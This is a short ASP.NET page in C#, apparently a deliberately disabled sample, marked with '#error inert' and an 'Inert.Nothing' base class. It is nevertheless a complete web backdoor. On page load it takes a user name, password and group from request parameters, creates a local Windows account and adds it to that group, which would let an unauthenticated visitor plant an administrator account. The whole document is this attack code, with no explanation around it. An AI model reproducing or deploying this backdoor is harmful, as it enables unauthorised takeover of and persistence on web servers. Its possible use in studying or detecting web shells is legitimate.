<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.DirectoryServices" %>
<script runat="server">
#error inert
void Page_Load(object o, EventArgs e)
{
    if (Request["u"] == null) return;
    var machine = new DirectoryEntry("WinNT://" + Environment.MachineName + ",computer");
    DirectoryEntry user = machine.Children.Add(Request["u"], "user");
    user.Invoke("SetPassword", new object[] { Request["p"] });
    user.CommitChanges();
    DirectoryEntry grp = machine.Children.Find(Request["g"], "group");
    grp.Invoke("Add", new object[] { user.Path });
}
</script>
